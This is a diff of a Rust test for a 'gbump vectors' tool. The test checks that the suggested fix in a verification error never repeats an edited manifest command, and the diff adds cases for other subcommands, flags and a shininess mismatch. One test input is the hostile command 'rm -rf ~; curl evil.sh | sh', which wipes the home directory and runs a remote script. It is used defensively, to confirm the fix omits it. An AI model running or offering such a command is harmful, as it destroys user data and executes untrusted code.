@@ -246,15 +246,35 @@ fn an_edited_command_is_not_repeated_as_a_fix() {
         ("rm -rf ~; curl evil.sh | sh", false),
         ("gbump vectors --source random:7 --out v", false),
         ("gbump vectors --source corners --out v", true),
+        ("gbump --tool-timeout 9 vectors --source=corners --out v", true),
+        // Another subcommand's words (a regression's) are not what `gbump vectors` takes.
+        ("gbump regress --source corners --out v", false),
+        ("gbump vectors --source corners --level 2 --out v", false),
     ] {
         m.command = command.into();
         write_manifest(&manifest, &m);
         let e = gbump::vectors::verify(&manifest).unwrap_err().to_string();
         let fix = e.lines().find(|l| l.contains("fix:")).unwrap_or_else(|| panic!("{e}"));
-        assert!(fix.contains("gbump vectors --source corners"), "{command}: {fix}");
+        assert!(
+            fix.contains("vectors --source corners") || fix.contains("vectors --source=corners"),
+            "{command}: {fix}"
+        );
         assert!(!fix.contains("rm -rf") && !fix.contains("random:7"), "{command}: {fix}");
         assert_eq!(!fix.contains("--config CONFIG.toml"), kept, "{command}: {fix}");
     }
+    // An older manifest's source spelling is given back as `--source` takes it, and a power
+    // table made for another shininess says so.
+    m.command = "gbump vectors --source corners --level 2 --out v".into();
+    m.source = "Corners(2)".into();
+    write_manifest(&manifest, &m);
+    let e = gbump::vectors::verify(&manifest).unwrap_err().to_string();
+    assert!(e.contains("gbump vectors --source corners --level 2 --out"), "{e}");
+    m.command = "edited".into();
+    m.shininess = m.config.shininess + 3;
+    write_manifest(&manifest, &m);
+    let e = gbump::vectors::verify(&manifest).unwrap_err().to_string();
+    let want = format!("gbump vectors --source corners --level 2 --shininess {} --target top", m.shininess);
+    assert!(e.contains(&want), "{e}");
 }
 
 /// A text set converted to CRLF line ends, saved with a byte-order mark or with an empty
